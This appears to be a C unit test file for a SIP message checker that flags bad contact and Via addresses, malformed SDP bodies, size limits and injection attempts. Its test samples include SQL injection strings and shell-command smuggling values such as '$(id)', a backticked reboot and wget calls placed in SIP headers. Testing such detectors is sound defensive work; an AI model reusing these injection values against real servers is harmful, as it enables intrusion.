/* SPDX-License-Identifier: GPL-2.0-or-later */
/* The judged defects: found where they are, and not in what merely looks like them. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "guard.h"
#include "message.h"
#include "sip/judge.h"

#define ALL UINT64_MAX
#define COUNT(list) (sizeof(list) / sizeof(list[0]))

static struct sip_judged judge(struct slice text, uint64_t wanted, bool stream)
{
	static struct sip_msg m;
	struct guard g = guard_new(text);
	struct sip_judged out, closer;

	sip_parse(&m, g.bytes);
	sip_judge(&m, &sip_limits_default, stream, wanted, 0, &out);
	for (unsigned d = 0; d < DEFECT_JUDGED_COUNT; d++)
		if (out.found >> d & 1)
			assert_true(out.at[d] <= m.all.n);
	/* in what is called plain there is nothing to be found */
	m.plain = 0;
	m.plain_uri = false;
	sip_judge(&m, &sip_limits_default, stream, wanted, 0, &closer);
	assert_int_equal(closer.found, out.found);
	guard_free(&g);
	return out;
}

static uint64_t found(const char *text)
{
	return judge(slice_of(text), ALL, false).found;
}

/* What is found in the message; none when defect is DEFECT_COUNT. */
struct sample {
	enum sip_defect defect;
	const char *text;
};

/* Each text between before and behind: just the one defect, or none. */
static void expect(const struct sample *s, size_t n, const char *before, const char *behind)
{
	unsigned wrong = 0;

	for (size_t i = 0; i < n; i++) {
		uint64_t want = s[i].defect == DEFECT_COUNT ? 0 : SIP_JUDGED(s[i].defect), got;
		char text[8192];

		snprintf(text, sizeof(text), "%s%s%s", before, s[i].text, behind);
		got = found(text);
		if (got == want)
			continue;
		wrong++;
		print_error("%s: found", s[i].text);
		for (unsigned d = 0; d < DEFECT_JUDGED_COUNT; d++)
			if (got >> d & 1)
				print_error(" %s", sip_defect_name(DEFECT_READ_COUNT + d));
		print_error("\n");
	}
	assert_int_equal(wrong, 0);
}

static const struct sample contacts[] = {
	{ DEFECT_COUNT, "<sip:a@192.0.2.1>" },
	{ DEFECT_COUNT, "<sip:a@[2001:db8::1]:5060>" },
	{ DEFECT_COUNT, "*" },
	{ DEFECT_COUNT, "<sip:a@127.example.org>" },
	{ DEFECT_COUNT, "<sip:a@224.0.2.>" },
	{ DEFECT_COUNT, "<sip:a@127..1>" },
	{ DEFECT_COUNT, "<sip:a@127.0.0.256>" },
	{ DEFECT_COUNT, "<sip:a@127.0.0.0.1>" },
	{ DEFECT_COUNT, "<sip:a@127.16777216>" },
	{ DEFECT_COUNT, "<sip:a@127.1a>" },
	{ DEFECT_COUNT, "<sip:a@0x>" },
	{ DEFECT_COUNT, "<sip:a@08>" },
	{ DEFECT_COUNT, "<sip:a@0x7f0000010000>" },
	{ DEFECT_COUNT, "<sip:a@0xc0000201>" },
	{ DEFECT_COUNT, "<sip:a@1270>" },
	{ DEFECT_COUNT, "<sip:a@240.0.0.1>" },
	{ DEFECT_COUNT, "<sip:a@223.255.255.255>" },
	{ DEFECT_COUNT, "<sip:a@10.0.0.1;maddr=192.0.2.1>" },
	{ DEFECT_COUNT, "<sip:a@[::2]>" },
	{ DEFECT_COUNT, "<sip:a@[fe80::1]>" },
	{ DEFECT_COUNT, "<sip:a@localhost>" },
	{ DEFECT_COUNT, "<tel:127>" },
	{ DEFECT_COUNT, "\"<sip:a@127.0.0.1>\" <sip:a@192.0.2.1>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@127.0.0.1>" },
	{ DEFECT_CONTACT_ADDRESS, "sip:127.0.0.1" },
	{ DEFECT_CONTACT_ADDRESS, "<sips:127.255.0.9:5061;transport=tcp>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@0.0.0.0>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@224.0.1.75>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@239.255.255.255>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@255.255.255.255>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@127.1>" }, /* as inet_aton() reads */
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@127.0.1>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@127.16777215>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@0x7f.0.0.1:5060>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@0177.0.0.01>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@0127.0.0.1>" }, /* as others read */
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@0X7F000001>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@017700000001>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@2130706433>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@3758096385>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@4294967295>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@0>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@[::1]>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@[::]>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@[ff02::1]:5060>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@[::ffff:127.0.0.1]>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@[::ffff:255.255.255.255]>" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@192.0.2.1>, \"b, c\" <sip:b@127.0.0.1>;q=1" },
	{ DEFECT_CONTACT_ADDRESS, "<sip:a@192.0.2.1>\r\nm: <sip:b@127.0.0.1>" },
};

static void hosts_of_contacts(void **unused)
{
	char text[512];

	(void)unused;
	expect(contacts, COUNT(contacts), "REGISTER sip:a SIP/2.0\r\n" HEAD "Contact: ",
	       "\r\n\r\n");
	expect(contacts, COUNT(contacts), "INVITE sip:a SIP/2.0\r\n" HEAD "m: ", "\r\n\r\n");
	for (size_t i = 0; i < COUNT(contacts); i++) {
		/* nobody sends anything there */
		snprintf(text, sizeof(text), LINE HEAD "Contact: %s\r\n\r\n", contacts[i].text);
		assert_int_equal(found(text), 0);
		snprintf(text, sizeof(text), "SIP/2.0 200 OK\r\n" VIA FROM TO ID
			 "CSeq: 1 REGISTER\r\nContact: %s\r\n\r\n", contacts[i].text);
		assert_int_equal(found(text), 0);
		snprintf(text, sizeof(text), "SIP/2.0 486 Busy\r\n" VIA FROM TO ID
			 "CSeq: 1 INVITE\r\nContact: %s\r\n\r\n", contacts[i].text);
		assert_int_equal(found(text), 0);
	}
}

/* A phone that a server called may not know its own address; nobody is a group. */
static void hosts_of_answers(void **unused)
{
	static const struct sample answers[] = {
		{ DEFECT_COUNT, "<sip:a@127.0.0.1>" },
		{ DEFECT_COUNT, "<sip:a@[::1]:5060>" },
		{ DEFECT_COUNT, "<sip:a@0.0.0.0>" },
		{ DEFECT_CONTACT_ADDRESS, "<sip:a@224.0.1.75>" },
		{ DEFECT_CONTACT_ADDRESS, "<sip:a@255.255.255.255>" },
		{ DEFECT_CONTACT_ADDRESS, "<sip:a@[ff02::1]>" },
	};

	(void)unused;
	expect(answers, COUNT(answers),
	       "SIP/2.0 200 OK\r\n" VIA FROM TO ID "CSeq: 1 INVITE\r\nContact: ", "\r\n\r\n");
}

static void hosts_of_vias(void **unused)
{
	static const struct sample vias[] = {
		{ DEFECT_COUNT, "SIP/2.0/UDP 192.0.2.1:5060;branch=z9hG4bK1;received=127.0.0.1" },
		{ DEFECT_COUNT, "SIP/2.0/UDP [2001:db8::1];branch=z9hG4bK1" },
		{ DEFECT_COUNT, "SIP/2.0/UDP 127.invalid;branch=z9hG4bK1" },
		{ DEFECT_COUNT, "SIP/2.0/UDP a.example, SIP/2.0/UDP 127.0.0.1;branch=1" },
		{ DEFECT_VIA_LOOPBACK, "SIP/2.0/UDP 127.0.0.1;branch=z9hG4bK1" },
		{ DEFECT_VIA_LOOPBACK, "SIP/2.0/UDP  127.0.0.1;branch=z9hG4bK1" },
		{ DEFECT_VIA_LOOPBACK, "sip / 2.0 / tcp\t127.0.0.1:9" },
		{ DEFECT_VIA_LOOPBACK, "SIP/2.0/UDP 0.0.0.0" },
		{ DEFECT_VIA_LOOPBACK, "SIP/2.0/UDP [::1]:5060" },
		{ DEFECT_VIA_ADDRESS, "SIP/2.0/UDP 255.255.255.255" },
		{ DEFECT_VIA_ADDRESS, "SIP/2.0/UDP 224.0.1.75:5060;branch=z9hG4bK1" },
		{ DEFECT_VIA_ADDRESS, "SIP/2.0/TCP 239.1.1.1" },
		{ DEFECT_VIA_ADDRESS, "SIP/2.0/UDP [ff02::1]" },
		{ DEFECT_VIA_ADDRESS, "SIP/2.0/UDP [::ffff:224.0.0.1]" },
		{ DEFECT_LOWER_VIA, "SIP/2.0/UDP a;branch=1, SIP/2.0" },
		{ DEFECT_LOWER_VIA, "SIP/2.0/UDP a;branch=1\r\nv: x" },
		{ DEFECT_COUNT,
		  "SIP/2.0/UDP a;branch=1\r\nv: SIP/2.0/TCP b, SIP/2.0/UDP c:1;x=\",\"" },
	};

	(void)unused;
	expect(vias, COUNT(vias), LINE "Via: ", "\r\n" FROM TO ID CSEQ "\r\n");
}

static void names_and_escapes(void **unused)
{
	static const struct sample from[] = {
		{ DEFECT_COUNT, "\"O'Brien\" <sip:o'brien@a.example>;tag=1" },
		{ DEFECT_COUNT, "\"Sales & Support; 2nd floor\" <sip:%2b49@a.example>;tag=1" },
		{ DEFECT_SQL, "\"' or 1=1--\" <sip:a@a.example>;tag=1" },
		{ DEFECT_SQL, "<sip:admin'--@a.example>" },
		{ DEFECT_COUNT, "Union Bank of Ulm <sip:trunk@uni.example>" },
		{ DEFECT_SQL, "\"1 uNiOn select password from users\" <sip:a@a.example>" },
		{ DEFECT_SQL, "<sip:%2527%20or%201=1--@a.example>" },
		{ DEFECT_SQL, "<sip:a:x' or 1=1--@a.example>" },
		{ DEFECT_SHELL, "<sip:$(id)@a.example>" },
		{ DEFECT_SHELL, "\"`reboot`\" <sip:a@a.example>" },
		{ DEFECT_SHELL, "<tel:1;wget%20x.io/a>" },
		{ DEFECT_ESCAPE, "<sip:100%@a.example>" },
		{ DEFECT_ESCAPE, "<sip:a%2@a.example>" },
		{ DEFECT_ESCAPE, "<sip:a@a.example;x=%g1>" },
		{ DEFECT_ESCAPED_CONTROL, "<sip:a%00b@a.example>" },
		{ DEFECT_ESCAPED_CONTROL, "<sip:a%7Fb@a.example>" },
		{ DEFECT_COUNT, "<sip:a@a.example;x=%00>" },
		{ DEFECT_UTF8, "\"M\xfcller\" <sip:a@a.example>" },
		{ DEFECT_UTF8, "\"\xc0\xaf\" <sip:a@a.example>" },
		{ DEFECT_UTF8, "\"\xed\xa0\x80\" <sip:a@a.example>" },
		{ DEFECT_UTF8, "\"\xf4\x90\x80\x80\" <sip:a@a.example>" },
		{ DEFECT_COUNT,
		  "\"M\xc3\xbcller \xf0\x9f\x93\x9e \xe2\x82\xac\" <sip:a@a.example>" },
	};
	static const struct sample agents[] = {
		{ DEFECT_COUNT, "Phone (Linux; x86_64) 1.2/3 & more | $1" },
		{ DEFECT_SQL, "Phone' or '1'='1" },
		{ DEFECT_SHELL, "Phone; wget http://192.0.2.1/x" },
	};

	(void)unused;
	expect(from, COUNT(from), LINE VIA TO ID CSEQ "From: ", "\r\n\r\n");
	expect(from, COUNT(from), LINE VIA FROM ID CSEQ "t: ", "\r\n\r\n");
	expect(from, COUNT(from), LINE HEAD "Contact: <sip:b@b.example>, ", "\r\n\r\n");
	expect(agents, COUNT(agents), LINE HEAD "User-Agent: ", "\r\n\r\n");
	assert_int_equal(found("OPTIONS sip:x'or'1'='1@a SIP/2.0\r\n" HEAD "\r\n"),
			 SIP_JUDGED(DEFECT_SQL));
	assert_int_equal(found("OPTIONS sip:a@a?Subject=b SIP/2.0\r\n" HEAD "\r\n"),
			 SIP_JUDGED(DEFECT_URI_HEADERS));
	assert_int_equal(found(LINE HEAD "Authorization: Digest username=\"a' or 1=1--\", "
			       "realm=\"x\"\r\n\r\n"), SIP_JUDGED(DEFECT_SQL));
	assert_int_equal(found(LINE HEAD "Authorization: Digest username=\"o'brien\", "
			       "realm=\"' or 1=1\"\r\n\r\n"), 0);
}

static void bodies(void **unused)
{
	static const char no_length[] = LINE HEAD "\r\n", length[] = LINE HEAD "l: 0\r\n\r\n";

	(void)unused;
	assert_int_equal(found(LINE HEAD "\r\nx"), SIP_JUDGED(DEFECT_CONTENT_TYPE));
	assert_int_equal(found(LINE HEAD "c: text/plain\r\n\r\nx"), 0);
	assert_int_equal(judge(SLICE(no_length), ALL, false).found, 0);
	assert_int_equal(judge(SLICE(no_length), ALL, true).found,
			 SIP_JUDGED(DEFECT_MISSING_LENGTH));
	assert_int_equal(judge(SLICE(length), ALL, true).found, 0);
}

/* One more byte than may be is found, at its place. */
static void sizes(void **unused)
{
	static char text[20000];
	struct sip_judged out;
	int n;

	(void)unused;
	for (int more = 0; more < 2; more++) {
		n = snprintf(text, sizeof(text), LINE HEAD "X: %*s\r\nY: 1\r\n\r\n",
			     8192 - 5 + more, "");
		out = judge((struct slice){ text, (uint32_t)n }, ALL, false);
		assert_int_equal(out.found, more ? SIP_JUDGED(DEFECT_HEADER_SIZE) : 0);
		if (more)
			assert_int_equal(out.at[DEFECT_HEADER_SIZE - DEFECT_READ_COUNT],
					 sizeof(LINE HEAD) - 1);
		n = snprintf(text, sizeof(text), "OPTIONS sip:%0*d SIP/2.0\r\n" HEAD "\r\n",
			     2048 - 4 + more, 0);
		out = judge((struct slice){ text, (uint32_t)n }, ALL, false);
		assert_int_equal(out.found, more ? SIP_JUDGED(DEFECT_URI_SIZE) : 0);
		n = snprintf(text, sizeof(text), LINE HEAD "c: a/b\r\n\r\n");
		memset(text + n, 'x', sizeof(text) - (size_t)n);
		out = judge((struct slice){ text, 16384u + (unsigned)more }, ALL, false);
		assert_int_equal(out.found, more ? SIP_JUDGED(DEFECT_MESSAGE_SIZE) : 0);
	}
	assert_int_equal(judge((struct slice){ text, sizeof(text) },
			       ~SIP_JUDGED(DEFECT_MESSAGE_SIZE), false).found, 0);
}

static const struct sample descriptions[] = {
	{ DEFECT_COUNT, "v=0\r\no=- 1 1 IN IP4 192.0.2.1\r\ns=-\r\nc=IN IP4 192.0.2.1\r\nt=0 0\r\n"
			"m=audio 4000 RTP/AVP 0 8 101\r\na=rtpmap:101 telephone-event/8000\r\n"
			"a=fmtp:101 0-16\r\n" },
	{ DEFECT_COUNT, "v=0\no=- 1 1 IN IP4 192.0.2.1\nc=IN IP4 192.0.2.1\nm=audio 4 RTP/AVP 0" },
	{ DEFECT_COUNT, "v=0\ro=- 1 1 IN IP4 192.0.2.1\rm=audio 4000 RTP/AVP 0\r" },
	{ DEFECT_COUNT, "" }, { DEFECT_COUNT, "\r\n" }, { DEFECT_COUNT, "v=0\r\n\r\n\r\n" },
	{ DEFECT_COUNT, "v=0\r\n  \r\ns=\r\n" },
	{ DEFECT_COUNT, "v=0\r\no= 1 1 IN IP4 192.0.2.1\r\n" },
	{ DEFECT_COUNT, "o=Cisco SIP Phone 1 1 IN IP4 192.0.2.1\r\n" },
	{ DEFECT_COUNT, "o=- 18446744073709551615 -9 IN IP4 pbx.example.org\r\n" },
	{ DEFECT_COUNT, "o=- 1 1 IN IP6 ::\r\nc=IN IP6 2001:db8::1\r\n" },
	{ DEFECT_COUNT, "c=IN IP4 0.0.0.0\r\n" }, { DEFECT_COUNT, "c=IN IP4 224.2.1.1/127/3\r\n" },
	{ DEFECT_COUNT, "c=IN IP4 127.0.0.1\r\n" }, { DEFECT_COUNT, "c=IN IP6 fe80::1%eth0\r\n" },
	{ DEFECT_COUNT, "c=IN IP6 [2001:db8::1]\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP6 [2001:db8:::1]\r\n" },
	{ DEFECT_COUNT, "c=TN RFC2543 +1-201-406-4090\r\n" },
	{ DEFECT_COUNT, "c=IN IP4 media.example.org\r\n" },
	{ DEFECT_COUNT, "c=IN IP4  192.0.2.1 \r\n" },
	{ DEFECT_COUNT, "m=image 5000 udptl t38\r\n" }, { DEFECT_COUNT, "m=audio 0 RTP/AVP 0\r\n" },
	{ DEFECT_COUNT, "m=video 0 RTP/AVP\r\n" }, { DEFECT_COUNT, "m=audio 4000/2 RTP/AVP 0\r\n" },
	{ DEFECT_COUNT, "m=message 7394 TCP/MSRP *\r\n" },
	{ DEFECT_COUNT, "m=application 9 UDP/DTLS/SCTP webrtc-datachannel\r\n" },
	{ DEFECT_COUNT, "m=audio 9 UDP/TLS/RTP/SAVPF 111 63 9 0 8\r\n" },
	{ DEFECT_COUNT, "m=audio 65535  RTP/AVP 0 127 \r\n" },
	{ DEFECT_COUNT, "a=candidate:1 1 UDP 2130706431 192.0.2.1 5000 typ host\r\n"
			"a=fingerprint:sha-256 4A:AD:B9\r\na=ice-ufrag:x\r\na=rtcp-mux\r\n"
			"a=group:BUNDLE 0 1\r\na=crypto:1 AES_CM_128_HMAC_SHA1_80 inline:x\r\n"
			"a=fmtp-x\r\na=rtpmapper:9999\r\na=\r\nb=AS:99999999999\r\nZ=odd\r\n"
			"a=fmtp:18\r\na=fmtp:t38 x\r\na=rtpmap:111 opus/48000/2\r\n" },
	{ DEFECT_SDP_SYNTAX, "hello" }, { DEFECT_SDP_SYNTAX, "v=0\r\nm audio\r\n" },
	{ DEFECT_SDP_SYNTAX, "v=0\r\n=x\r\n" }, { DEFECT_SDP_SYNTAX, "v=0\r\nv\r\n" },
	{ DEFECT_SDP_SYNTAX, "v=0\r\nma=x\r\n" }, { DEFECT_SDP_SYNTAX, "9=0\r\n" },
	{ DEFECT_SDP_SYNTAX, "v=0\r\n a=x\r\n" },
	{ DEFECT_SDP_MEDIA, "m=\r\n" }, { DEFECT_SDP_MEDIA, "m=audio\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 4000\r\n" }, { DEFECT_SDP_MEDIA, "m=audio 4000 RTP/AVP\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio RTP/AVP 0\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 65536 RTP/AVP 0\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio -1 RTP/AVP 0\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 4294971296 RTP/AVP 0\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 4000/ RTP/AVP 0\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 4000/99999999999 RTP/AVP 0\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 5061 RTP/AVP 9 0 4294967296\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 5061 RTP/AVP -1\r\n" },
	{ DEFECT_SDP_MEDIA, "m=audio 5061 UDP/TLS/RTP/SAVPF 999\r\n" },
	{ DEFECT_SDP_MEDIA, "a=rtpmap\r\n" }, { DEFECT_SDP_MEDIA, "a=rtpmap:\r\n" },
	{ DEFECT_SDP_MEDIA, "a=rtpmap:-1 PCMU/8000\r\n" },
	{ DEFECT_SDP_MEDIA, "a=rtpmap:4294967296 PCMU/8000\r\n" },
	{ DEFECT_SDP_MEDIA, "a=rtpmap:0 PCMU/99999999999\r\n" },
	{ DEFECT_SDP_MEDIA, "a=fmtp\r\n" }, { DEFECT_SDP_MEDIA, "a=fmtp:\r\n" },
	{ DEFECT_SDP_MEDIA, "a=fmtp:99999 x\r\n" }, { DEFECT_SDP_MEDIA, "a=fmtp:-9 x\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=\r\n" }, { DEFECT_SDP_CONNECTION, "c=IN\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP4\r\n" }, { DEFECT_SDP_CONNECTION, "c=IN IP4 /127\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP4 300.1.1.1\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP4 1.2.3\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP4 255.255.255.255\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP6 2001:db8:::1\r\n" },
	{ DEFECT_SDP_CONNECTION, "c=IN IP6 ::ffff:255.255.255.255\r\n" },
	{ DEFECT_SDP_CONNECTION, "o=\r\n" }, { DEFECT_SDP_CONNECTION, "o=- 1\r\n" },
	{ DEFECT_SDP_CONNECTION, "o=- 1 1 IN IP4 1.2.3.4.5\r\n" },
	{ DEFECT_SDP_CONNECTION, "o=IN IP4 192.0.2.1\r\n" },
};

static void descriptions_alone(void **unused)
{
	(void)unused;
	expect(descriptions, COUNT(descriptions), LINE HEAD "c: application/sdp\r\n\r\n", "");
	expect(descriptions, COUNT(descriptions),
	       RING HEAD "Content-Type: Application / SDP ;charset=utf-8\r\n\r\n", "");
}

static void descriptions_in_parts(void **unused)
{
	(void)unused;
	expect(descriptions, COUNT(descriptions),
	       LINE HEAD "c: multipart/mixed;boundary=\"x-1\"\r\n\r\n"
	       "preamble\r\n--x-1\r\ncontent-type: text/plain\r\n\r\nm=\r\n"
	       "--x-1\r\nContent-Disposition: session\r\nContent-Type: application/sdp\r\n\r\n",
	       "\r\n--x-1\r\nContent-Type: application/isup\r\n\r\nm=\r\n--x-1--\r\n");
}

/* What is no description, or cannot be read, is not judged as one. */
static void other_bodies(void **unused)
{
	static const char *const heads[] = {
		"c: text/plain\r\n", "c: application/sdpx\r\n", "c: application\r\n",
		"c: multipart/mixed\r\n",
		"c: multipart/mixed;boundary=\r\n", "c: multipart/mixed;boundary=y\r\n",
		"c: /sdp\r\n",
	};
	char text[512];

	(void)unused;
	for (size_t i = 0; i < COUNT(heads); i++) {
		snprintf(text, sizeof(text), LINE HEAD "%s\r\nm=\r\n", heads[i]);
		assert_int_equal(found(text), 0);
	}
}

/* Servers read a description whatever Content-Encoding says, unless it is none. */
static void content_encoding(void **unused)
{
#define SDP_ENCODED LINE HEAD "c: application/sdp\r\ne: "
	(void)unused;
	assert_int_equal(found(SDP_ENCODED "gzip\r\n\r\n\x1f\x8b\b"), 0);
	assert_int_equal(found(SDP_ENCODED "deflate\r\n\r\nx\x9cm=\r\n"), 0);
	assert_int_equal(found(SDP_ENCODED "gzip\r\n\r\nm"), 0);
	assert_int_equal(found(SDP_ENCODED "gzip\r\n\r\nm=\r\n"),
			 SIP_JUDGED(DEFECT_SDP_MEDIA));
	assert_int_equal(found(SDP_ENCODED "\r\n\r\n\r\nm=\r\n"),
			 SIP_JUDGED(DEFECT_SDP_MEDIA));
}

/* What a phone counts too much of its C string is no damage. */
static void nuls_behind(void **unused)
{
#define SDP_HEAD LINE HEAD "c: application/sdp\r\n\r\n"
	(void)unused;
	assert_int_equal(judge(SLICE(SDP_HEAD "v=0\r\n\0"), ALL, false).found, 0);
	assert_int_equal(judge(SLICE(SDP_HEAD "v=0\r\n\0\0\0"), ALL, false).found, 0);
	assert_int_equal(judge(SLICE(SDP_HEAD "\0"), ALL, false).found, 0);
	assert_int_equal(judge(SLICE(SDP_HEAD "v=0\r\n\0s=\r\n"), ALL, false).found,
			 SIP_JUDGED(DEFECT_SDP_SYNTAX));
}

/* The ways to name a part that a reader of MIME takes. */
static void parts_spelled(void **unused)
{
	static const char *const parts[] = {
		"Content-Type : application/sdp\r\n", "c:application/sdp\r\n",
		"CONTENT-TYPE:\r\n application/sdp;x=y\r\n",
		"Content-Type: application/sdp\r\nContent-Type: text/plain\r\n",
	};
	char text[1024];
	size_t n;

	(void)unused;
	for (size_t i = 0; i < COUNT(parts); i++) {
		snprintf(text, sizeof(text), LINE HEAD "c: multipart/mixed;boundary=x\r\n\r\n"
			 "--x\r\n%s\r\nm=\r\n--x--\r\n", parts[i]);
		assert_int_equal(found(text), SIP_JUDGED(DEFECT_SDP_MEDIA));
	}
	snprintf(text, sizeof(text), LINE HEAD "c: multipart/mixed\r\n\r\n"
		 "\r\n--x \r\n%s\r\nm=\r\n--x--\r\n", parts[1]); /* no boundary */
	assert_int_equal(found(text), SIP_JUDGED(DEFECT_SDP_MEDIA));
	n = (size_t)snprintf(text, sizeof(text), LINE HEAD "c: multipart/x;boundary=x\r\n\r\n");
	for (unsigned i = 0; i < 40; i++)
		n += (size_t)snprintf(text + n, sizeof(text) - n, "--x\r\n\r\n");
	snprintf(text + n, sizeof(text) - n, "--x\r\n%s\r\nm=\r\n", parts[1]);
	assert_int_equal(found(text), SIP_JUDGED(DEFECT_SDP_MEDIA));
}

static void too_many_lines_and_formats(void **unused)
{
	static char text[16000];
	size_t n;

	(void)unused;
	for (unsigned lines = 64; lines <= 65; lines++) {
		n = (size_t)snprintf(text, sizeof(text), LINE HEAD "c: application/sdp\r\n\r\n");
		for (unsigned i = 0; i < lines; i++)
			n += (size_t)snprintf(text + n, sizeof(text) - n, "m=a 1 RTP/AVP 0\r\n");
		assert_int_equal(found(text), lines > 64 ? SIP_JUDGED(DEFECT_SDP_MEDIA) : 0);
		n = (size_t)snprintf(text, sizeof(text),
				     LINE HEAD "c: application/sdp\r\n\r\nm=a 1 RTP/AVP");
		for (unsigned i = 0; i < 2 * lines; i++)
			n += (size_t)snprintf(text + n, sizeof(text) - n, " %u", i % 128);
		assert_int_equal(found(text), lines > 64 ? SIP_JUDGED(DEFECT_SDP_MEDIA) : 0);
	}
	assert_int_equal(judge(SLICE(LINE HEAD "c: application/sdp\r\n\r\nv=0\r\na=x\0y\r\n"), ALL,
			       false).found, SIP_JUDGED(DEFECT_SDP_SYNTAX));
}

/* Only what is wanted is found; what is enough ends the search. */
static void wanted_and_enough(void **unused)
{
	static const char text[] = LINE HEAD "Contact: <sip:$(id)@a>\r\nX: %*s\r\n\r\nm=";
	static const uint64_t some = SIP_JUDGED(DEFECT_SHELL) | SIP_JUDGED(DEFECT_CONTENT_TYPE);
	static struct sip_msg m;
	struct sip_judged out;

	(void)unused;
	sip_parse(&m, SLICE(text));
	sip_judge(&m, &sip_limits_default, false, ALL, 0, &out);
	assert_int_equal(out.found, some);
	sip_judge(&m, &sip_limits_default, false, SIP_JUDGED(DEFECT_SHELL), 0, &out);
	assert_int_equal(out.found, SIP_JUDGED(DEFECT_SHELL));
	sip_judge(&m, &sip_limits_default, false, some, SIP_JUDGED(DEFECT_CONTENT_TYPE), &out);
	assert_int_equal(out.found, SIP_JUDGED(DEFECT_CONTENT_TYPE));
	sip_judge(&m, &sip_limits_default, false, 0, 0, &out);
	assert_int_equal(out.found, 0);
}

/* However a message ends, no byte is read behind its end. */
static void cut_anywhere(void **unused)
{
	static const char text[] =
		"INVITE sip:a'b%2541@[::1] SIP/2.0\r\n" HEAD "Contact: \"a\\\"b\" "
		"<sip:%27@0.0.0.0>, sip:x\r\nUser-Agent: `$(/*\r\n"
		"c: multipart/mixed;boundary=x\r\n\r\n--x\r\n"
		"Content-Type: application/sdp\r\n\r\nv=0\r\nc=IN IP4 1.2.3.4/1\r\n"
		"a=rtpmap:1 a/1\r\nm=audio 1/2 RTP/AVP 1\r\n--x--";

	(void)unused;
	for (uint32_t n = 0; n < sizeof(text); n++)
		(void)judge((struct slice){ text, n }, ALL, true);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(hosts_of_contacts), cmocka_unit_test(hosts_of_answers),
		cmocka_unit_test(hosts_of_vias), cmocka_unit_test(names_and_escapes),
		cmocka_unit_test(bodies), cmocka_unit_test(sizes),
		cmocka_unit_test(descriptions_alone), cmocka_unit_test(descriptions_in_parts),
		cmocka_unit_test(other_bodies), cmocka_unit_test(content_encoding),
		cmocka_unit_test(nuls_behind), cmocka_unit_test(parts_spelled),
		cmocka_unit_test(too_many_lines_and_formats),
		cmocka_unit_test(wanted_and_enough), cmocka_unit_test(cut_anywhere),
	};

	return cmocka_run_group_tests_name("judge", tests, NULL, NULL);
}
